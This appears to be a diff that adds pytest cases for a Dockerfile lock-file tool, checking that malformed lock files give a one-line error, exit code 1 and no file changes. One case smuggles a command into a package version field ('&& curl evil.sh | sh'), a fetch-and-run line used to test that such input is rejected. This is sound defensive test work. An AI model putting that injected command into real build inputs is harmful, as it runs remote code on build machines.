@@ -559,3 +559,52 @@ def test_images_only_from_the_configuration(
     assert run(capsys, "lock")[0] == 0
     assert "images-only = true\n" in (tmp_path / "Dockerfile.lock").read_text()
     assert run(capsys, "check")[0] == 0
+
+
+ITEM10_LOCKS = [
+    pytest.param(
+        ["check"],
+        'version = 1\n[[image]]\nreference = "debian:bookworm@{A}"\nname = "docker.io/library/debian"\n'
+        'tag = "trixie"\ndigest = "{A}"\nused-by = ["stage 0: FROM"]\n',
+        "malformed [[image]] entry ('debian:bookworm@{A}': tag 'trixie' disagrees with the reference)",
+        id="check-tag-edited",
+    ),
+    pytest.param(
+        ["check"],
+        'version = 1\n[snapshot]\ntime = "yesterday"\n',
+        "malformed [snapshot] table (time 'yesterday' is not a real UTC time YYYYMMDDTHHMMSSZ)",
+        id="check-time-yesterday",
+    ),
+    pytest.param(
+        ["build-args"],
+        "version = 1\nx = " + "[" * 5000 + "]" * 5000 + "\n",
+        "not valid TOML: nested too deeply",
+        id="build-args-5000-deep",
+    ),
+    pytest.param(
+        ["lock", "--pin-versions"],
+        'version = 1\n[[stage]]\nstage = "0"\n[[stage.package]]\nname = "curl"\narchitecture = "amd64"\n'
+        'version = "7.88.1-10 && curl evil.sh | sh"\nsha256 = "{sha}"\nfilename = "pool/c.deb"\n',
+        "malformed [[stage]] entry (package 'curl': '7.88.1-10 && curl evil.sh | sh':"
+        " version string has embedded spaces)",
+        id="lock-pin-versions-bad-version",
+    ),
+]
+
+
+@pytest.mark.parametrize(("argv", "lock", "message"), ITEM10_LOCKS)
+def test_item10_a_bad_lock_is_one_line_and_exit_1(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str], lock: str, message: str
+) -> None:
+    digest = "sha256:" + "a" * 64
+    dockerfile = tmp_path / "Dockerfile"
+    dockerfile.write_text(f"FROM debian:bookworm@{digest}\n")
+    (tmp_path / "Dockerfile.lock").write_text(lock.format(A=digest, sha="b" * 64))
+    before = snapshot(tmp_path)
+
+    code, out, err = run(capsys, *argv, str(dockerfile))
+
+    assert code == 1
+    assert (out + err).splitlines()[0] == f"{dockerfile}.lock: " + message.format(A=digest)
+    assert "Traceback" not in out + err
+    assert snapshot(tmp_path) == before
